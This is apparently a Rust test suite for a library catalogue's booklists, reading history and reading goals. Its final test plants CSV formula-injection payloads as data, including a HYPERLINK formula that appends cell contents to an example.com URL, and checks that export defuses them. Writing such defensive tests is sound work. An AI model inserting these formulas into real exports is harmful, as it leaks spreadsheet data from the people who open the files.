//! Booklists (R-B1–R-B3), reading history view (R-R1), reading goals (R-R2).

mod common;

use bunko::catalog::{NewTitle, TitleId};
use bunko::policy::Reason;
use bunko::shelves::{Granularity, ListTarget, goal_chart_svg};
use bunko::{Error, Policy};
use common::{World, day};

fn reasons(e: Error) -> Vec<Reason> {
    match e {
        Error::Refused(r) => r.reasons,
        other => panic!("expected a refusal, got {other}"),
    }
}

#[test]
fn fukushima_101st_list_is_refused_r_b1() {
    let mut w = World::new("fukushima", "2026-06-01");
    let p = w.patron();
    for i in 0..100 {
        w.lib.create_booklist(p, &format!("リスト{i}"), "").unwrap();
    }
    assert_eq!(
        reasons(w.lib.create_booklist(p, "もう一つ", "").unwrap_err()),
        [Reason::ListLimitReached { limit: 100 }]
    );
    assert_eq!(w.lib.booklists(p).unwrap().len(), 100);
}

#[test]
fn kanagawa_11th_shelf_is_refused_r_b1() {
    let mut w = World::new("kanagawa", "2026-06-01");
    let p = w.patron();
    for i in 0..10 {
        w.lib.create_booklist(p, &format!("本棚{i}"), "").unwrap();
    }
    assert_eq!(reasons(w.lib.create_booklist(p, "本棚10", "").unwrap_err()), [Reason::ListLimitReached { limit: 10 }]);
}

#[test]
fn names_and_memos_are_capped_in_characters_r_b1() {
    let mut w = World::new("fukushima", "2026-06-01");
    let p = w.patron();
    let fifty = "図".repeat(50);
    assert!(w.lib.create_booklist(p, &fifty, "").is_ok(), "50 Japanese characters (150 bytes) fit");
    let err = w.lib.create_booklist(p, &"図".repeat(51), "").unwrap_err();
    assert!(matches!(err, Error::InvalidInput { field: "name", .. }), "{err}");
    let err = w.lib.create_booklist(p, "メモ付き", &"あ".repeat(1001)).unwrap_err();
    assert!(matches!(err, Error::InvalidInput { field: "memo", .. }), "{err}");
    assert!(w.lib.create_booklist(p, "メモ付き", &"あ".repeat(1000)).is_ok());
    assert_eq!(reasons(w.lib.create_booklist(p, "メモ付き", "").unwrap_err()), [Reason::ListNameTaken]);
}

#[test]
fn add_from_a_record_to_a_list_or_a_new_one_then_rename_remove_delete_r_b2() {
    let mut w = World::new("shizuoka", "2026-06-01");
    let p = w.patron();
    let t = w.title("坊っちゃん");
    let list = w.lib.add_to_booklist(p, ListTarget::New("読みたい本".into()), t, "夏に読む").unwrap();
    assert_eq!(w.lib.booklists(p).unwrap()[0].entries, 1);
    assert_eq!(
        reasons(w.lib.add_to_booklist(p, ListTarget::Existing(list), t, "").unwrap_err()),
        [Reason::AlreadyInList]
    );
    w.lib.update_booklist(p, list, "読んだ本", "メモ").unwrap();
    let lists = w.lib.booklists(p).unwrap();
    assert_eq!((lists[0].name.as_str(), lists[0].memo.as_str()), ("読んだ本", "メモ"));
    assert_eq!(w.lib.booklist_entries(p, list).unwrap()[0].memo, "夏に読む");
    assert!(w.lib.remove_from_booklist(p, list, t).unwrap());
    w.lib.delete_booklist(p, list).unwrap();
    assert!(w.lib.booklists(p).unwrap().is_empty());
    let other = w.patron();
    assert!(
        matches!(w.lib.booklist_entries(other, list), Err(Error::NotFound { .. })),
        "another patron's list is not found"
    );
}

#[test]
fn kanagawa_copy_and_move_keep_memos_r_b2() {
    let mut w = World::new("kanagawa", "2026-06-01");
    let p = w.patron();
    let (a, b) = (w.lib.create_booklist(p, "A", "").unwrap(), w.lib.create_booklist(p, "B", "").unwrap());
    let t1 = w.title("一");
    let t2 = w.title("二");
    w.lib.add_to_booklist(p, ListTarget::Existing(a), t1, "メモ一").unwrap();
    w.lib.add_to_booklist(p, ListTarget::Existing(a), t2, "メモ二").unwrap();
    w.lib.copy_entries(p, a, b, &[t1]).unwrap();
    w.lib.move_entries(p, a, b, &[t2]).unwrap();
    let memos = |list| w.lib.booklist_entries(p, list).unwrap().into_iter().map(|e| e.memo).collect::<Vec<_>>();
    assert_eq!(memos(a), ["メモ一"]);
    assert_eq!(memos(b), ["メモ一", "メモ二"]);
    assert_eq!(reasons(w.lib.copy_entries(p, a, b, &[t1]).unwrap_err()), [Reason::AlreadyInList]);
}

#[test]
fn a_copy_that_would_pass_the_cap_changes_nothing_r_b1() {
    let mut policy = Policy::preset("kanagawa").unwrap();
    policy.booklists.max_entries = 100;
    let mut w = World::with_policy(policy, "2026-06-01");
    let p = w.patron();
    let (from, to) = (w.lib.create_booklist(p, "from", "").unwrap(), w.lib.create_booklist(p, "to", "").unwrap());
    let titles: Vec<TitleId> = (0..110).map(|i| w.lib.add_title(NewTitle::new(format!("本{i}"))).unwrap()).collect();
    for &t in &titles[..30] {
        w.lib.add_to_booklist(p, ListTarget::Existing(from), t, "").unwrap();
    }
    for &t in &titles[30..110] {
        w.lib.add_to_booklist(p, ListTarget::Existing(to), t, "").unwrap();
    }
    assert_eq!(reasons(w.lib.move_entries(p, from, to, &titles[..30]).unwrap_err()), [Reason::ListFull { limit: 100 }]);
    assert_eq!(w.lib.booklist_entries(p, from).unwrap().len(), 30);
    assert_eq!(w.lib.booklist_entries(p, to).unwrap().len(), 80);
}

#[test]
fn fukushima_offers_no_copy_move_and_chiba_no_booklists() {
    let mut w = World::new("fukushima", "2026-06-01");
    let p = w.patron();
    let (a, b) = (w.lib.create_booklist(p, "A", "").unwrap(), w.lib.create_booklist(p, "B", "").unwrap());
    assert_eq!(reasons(w.lib.copy_entries(p, a, b, &[]).unwrap_err()), [Reason::NotOffered]);
    let mut c = World::new("chiba", "2026-06-01");
    let q = c.patron();
    assert_eq!(reasons(c.lib.create_booklist(q, "A", "").unwrap_err()), [Reason::NotOffered]);
}

#[test]
fn entries_can_be_reordered() {
    let mut w = World::new("kanagawa", "2026-06-01");
    let p = w.patron();
    let list = w.lib.create_booklist(p, "順番", "").unwrap();
    let ts: Vec<TitleId> = ["一", "二", "三"].iter().map(|n| w.title(n)).collect();
    for &t in &ts {
        w.lib.add_to_booklist(p, ListTarget::Existing(list), t, "").unwrap();
    }
    w.lib.reorder_booklist(p, list, &[ts[2], ts[0], ts[1]]).unwrap();
    let order: Vec<_> = w.lib.booklist_entries(p, list).unwrap().into_iter().map(|e| e.title).collect();
    assert_eq!(order, [ts[2], ts[0], ts[1]]);
    assert!(matches!(w.lib.reorder_booklist(p, list, &[ts[0]]), Err(Error::InvalidInput { field: "order", .. })));
}

#[test]
fn fukushima_csv_export_quotes_commas_quotes_and_newlines_and_round_trips_r_b3() {
    let mut w = World::new("fukushima", "2026-06-01");
    let p = w.patron();
    let tricky = w
        .lib
        .add_title(NewTitle {
            author: "Doe, \"Jr.\"".into(),
            publisher: "岩波書店".into(),
            published_on: Some(day("2025-12-01")),
            isbn: "978-4-00-310761-4".into(),
            ..NewTitle::new("Comma, \"Quote\" 吾輩は猫である")
        })
        .unwrap();
    let list = w.lib.add_to_booklist(p, ListTarget::New("輸出".into()), tricky, "一行目\n二行目").unwrap();
    let plain = w.lib.export_booklist_csv(p, list, false).unwrap();
    let text = String::from_utf8(plain.clone()).unwrap();
    insta::assert_snapshot!(text.replace("\r\n", "⏎\n"));
    let with_bom = w.lib.export_booklist_csv(p, list, true).unwrap();
    assert_eq!(&with_bom[..3], &[0xEF, 0xBB, 0xBF]);
    assert_eq!(&with_bom[3..], &plain[..]);
    let mut reader = csv::Reader::from_reader(plain.as_slice());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(
        row.iter().collect::<Vec<_>>(),
        [
            "Comma, \"Quote\" 吾輩は猫である",
            "Doe, \"Jr.\"",
            "岩波書店",
            "2025-12-01",
            "9784003107614",
            "一行目\n二行目",
            "2026-06-01"
        ]
    );
    let mut k = World::new("kanagawa", "2026-06-01");
    let q = k.patron();
    let kl = k.lib.create_booklist(q, "x", "").unwrap();
    assert_eq!(reasons(k.lib.export_booklist_csv(q, kl, false).unwrap_err()), [Reason::NotOffered]);
}

#[test]
fn reading_history_entries_can_be_deleted_one_or_all_r_r1() {
    let mut w = World::new("shizuoka", "2026-06-01");
    let p = w.patron();
    w.lib.opt_in_reading_history(p, true).unwrap();
    for _ in 0..3 {
        let c = w.copy_at("gofuku", "book");
        w.lib.checkout(&c, p, "gofuku").unwrap();
        w.lib.check_in(&c, "gofuku").unwrap();
    }
    let history = w.lib.reading_history(p, 10, 0).unwrap();
    assert_eq!(history.len(), 3);
    assert!(w.lib.delete_history_entry(p, history[0].id).unwrap());
    let other = w.patron();
    assert!(!w.lib.delete_history_entry(other, history[1].id).unwrap(), "only the patron's own");
    assert_eq!(w.lib.clear_reading_history(p).unwrap(), 2);
    assert!(w.lib.reading_history(p, 10, 0).unwrap().is_empty());
}

#[test]
fn chikushino_reading_goal_progress_and_chart_r_r2() {
    let mut w = World::new("chikushino", "2026-06-01");
    let p = w.patron();
    w.lib.opt_in_reading_history(p, true).unwrap();
    let goal = w.lib.set_reading_goal(p, day("2026-06-01"), day("2026-06-30"), 6).unwrap();
    for (d, n) in [("2026-06-02", 2), ("2026-06-10", 1), ("2026-06-20", 2)] {
        w.go_to(d);
        for _ in 0..n {
            let c = w.copy_at("main", "book");
            w.lib.checkout(&c, p, "main").unwrap();
            w.lib.check_in(&c, "main").unwrap();
        }
    }
    let progress = w.lib.reading_goal_progress(p, goal, Granularity::Week).unwrap();
    let books: Vec<u32> = progress.steps.iter().map(|s| s.books).collect();
    assert_eq!(books, [2, 1, 2, 0, 0]);
    assert_eq!((progress.total, progress.achieved), (5, false));
    assert_eq!(progress.steps.last().unwrap().target_line, 6.0);
    insta::assert_snapshot!(goal_chart_svg(&progress));
    let mut k = World::new("kanagawa", "2026-06-01");
    let q = k.patron();
    assert_eq!(
        reasons(k.lib.set_reading_goal(q, day("2026-06-01"), day("2026-06-30"), 5).unwrap_err()),
        [Reason::NotOffered]
    );
}

#[test]
fn hostile_patron_work_bounded_item_12_reading_goal_span() {
    let mut w = World::new("chikushino", "2026-06-01");
    let p = w.patron();
    let span_error = |e: Error| match e {
        Error::InvalidInput { field, reason } => (field, reason),
        other => panic!("expected InvalidInput, got {other}"),
    };
    let (field, reason) = span_error(w.lib.set_reading_goal(p, day("1900-01-01"), day("9999-12-31"), 5).unwrap_err());
    assert_eq!(field, "ends_on");
    assert!(reason.contains("at most 366"), "{reason}");
    let (field, _) = span_error(w.lib.set_reading_goal(p, day("2026-06-01"), day("2027-06-02"), 5).unwrap_err());
    assert_eq!(field, "ends_on", "367 days is one too many");
    assert!(w.lib.reading_goals(p).unwrap().is_empty(), "nothing was stored");
    let goal = w.lib.set_reading_goal(p, day("2026-06-01"), day("2027-06-01"), 5).unwrap();
    let svg = goal_chart_svg(&w.lib.reading_goal_progress(p, goal, Granularity::Week).unwrap());
    assert!(svg.len() < 20_000, "a year's chart stays small: {} bytes", svg.len());
}

/// `s` as Python's `json.dumps(..., ensure_ascii=False)` writes a string.
fn json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The CSV file read back by Python's `csv` module, as JSON; `None` without `python3`.
fn python_reads_csv(bytes: &[u8]) -> Option<String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("list.csv");
    std::fs::write(&path, bytes).unwrap();
    let script = "import csv, json, sys\n\
                  with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:\n    \
                  print(json.dumps(list(csv.reader(f)), ensure_ascii=False))";
    let out = match std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .env("PYTHONIOENCODING", "utf-8")
        .output()
    {
        Ok(out) => out,
        Err(e) => {
            eprintln!("note: python3 is not available ({e}); the Python read-back is skipped");
            return None;
        }
    };
    assert!(out.status.success(), "python3 failed: {}", String::from_utf8_lossy(&out.stderr));
    Some(String::from_utf8(out.stdout).unwrap().trim_end().to_owned())
}

#[test]
fn hostile_csv_injection_item_13() {
    use bunko::shelves::{BooklistEntry, booklist_csv};
    let mut w = World::new("fukushima", "2026-06-01");
    let p = w.patron();
    let formula = w
        .lib
        .add_title(NewTitle {
            author: "+81-3-0000".into(),
            publisher: "@SUM(A1:A9)".into(),
            ..NewTitle::new("=HYPERLINK(\"https://example.com/?\"&A1,\"click\")")
        })
        .unwrap();
    let list = w.lib.add_to_booklist(p, ListTarget::New("式".into()), formula, "-2+3").unwrap();
    let plain = w.lib.export_booklist_csv(p, list, true).unwrap();
    let text = String::from_utf8(plain[3..].to_vec()).unwrap();
    insta::assert_snapshot!(text.replace("\r\n", "⏎\n"));

    // Tab and CR cannot begin a stored field (they are trimmed), but the pure function guards them too.
    let mut entry = w.lib.booklist_entries(p, list).unwrap().remove(0);
    entry.memo = "\t=1+1".into();
    let tab = BooklistEntry { title_text: "\r=2".into(), ..entry };
    let crafted = booklist_csv(&[tab], false).unwrap();

    let row = |cells: &[&str]| format!("[{}]", cells.iter().map(|c| json_string(c)).collect::<Vec<_>>().join(", "));
    let header = row(&["書名", "著者", "出版者", "出版日", "ISBN", "メモ", "登録日"]);
    let expected = format!(
        "[{header}, {}]",
        row(&[
            "'=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
            "'+81-3-0000",
            "'@SUM(A1:A9)",
            "",
            "",
            "'-2+3",
            "2026-06-01"
        ])
    );
    let expected_crafted =
        format!("[{header}, {}]", row(&["'\r=2", "'+81-3-0000", "'@SUM(A1:A9)", "", "", "'\t=1+1", "2026-06-01"]));
    if let Some(json) = python_reads_csv(&plain) {
        assert_eq!(json, expected);
    }
    if let Some(json) = python_reads_csv(&crafted) {
        assert_eq!(json, expected_crafted);
    }
}
